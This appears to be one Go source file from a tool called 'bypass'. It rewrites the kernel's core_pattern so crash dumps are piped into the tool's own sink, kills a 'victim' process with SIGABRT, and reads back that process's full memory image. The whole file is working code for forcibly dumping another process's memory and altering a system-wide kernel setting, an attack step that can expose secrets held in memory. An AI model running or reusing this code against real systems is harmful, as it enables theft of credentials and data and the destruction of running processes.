package accesspath

import (
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"
)

const (
	corePattern = "/proc/sys/kernel/core_pattern"
	unfinished  = ".part"
	dumpWait    = 60 * time.Second
	// lateStart is how long after the victim's end the kernel's helper may still open its file.
	lateStart = 2 * time.Second
)

// dump has the kernel pipe the victim's core into a file, and reads that.
func dump(a *attempt) ([]byte, error) {
	folder, err := os.MkdirTemp("", "core-")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(folder)
	file := filepath.Join(folder, "core")
	restore, err := pipeCores(file)
	if err != nil {
		return nil, err
	}
	defer restore()
	if err := abort(a.victim.PID); err != nil {
		return nil, err
	}
	return awaitDump(file)
}

func pipeCores(file string) (restore func(), err error) {
	before, err := os.ReadFile(corePattern)
	if err != nil {
		return nil, err
	}
	program, err := os.Executable()
	if err != nil {
		return nil, err
	}
	pattern := fmt.Sprintf("|%s dump-sink %s", program, file)
	if err := os.WriteFile(corePattern, []byte(pattern), 0); err != nil {
		return nil, unavailable("core_pattern cannot be set: %w", err)
	}
	return func() { _ = os.WriteFile(corePattern, before, 0) }, nil
}

func abort(pid int) error {
	process, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return fmt.Errorf("pidfd_open: %w", err)
	}
	defer unix.Close(process)
	if err := unix.Kill(pid, unix.SIGABRT); err != nil {
		return fmt.Errorf("kill: %w", err)
	}
	waiting := []unix.PollFd{{Fd: int32(process), Events: unix.POLLIN}}
	for {
		count, err := unix.Poll(waiting, int(dumpWait.Milliseconds()))
		if err == unix.EINTR {
			continue
		}
		if count == 0 {
			return errors.New("the victim outlived SIGABRT")
		}
		return err
	}
}

func awaitDump(file string) ([]byte, error) {
	start := time.Now()
	for time.Since(start) < dumpWait {
		core, err := os.ReadFile(file)
		if !errors.Is(err, fs.ErrNotExist) {
			return core, err
		}
		_, begun := os.Stat(file + unfinished)
		if begun != nil && time.Since(start) > lateStart {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	return nil, errors.New("no dump came")
}

// DumpSink is `bypass dump-sink <file>`: the kernel starts it with a core on its standard input.
func DumpSink(arguments []string) error {
	if len(arguments) != 1 {
		return errors.New("usage: bypass dump-sink <file>")
	}
	file, err := os.Create(arguments[0] + unfinished)
	if err != nil {
		return err
	}
	if _, err := io.Copy(file, os.Stdin); err != nil {
		return err
	}
	return os.Rename(file.Name(), arguments[0])
}
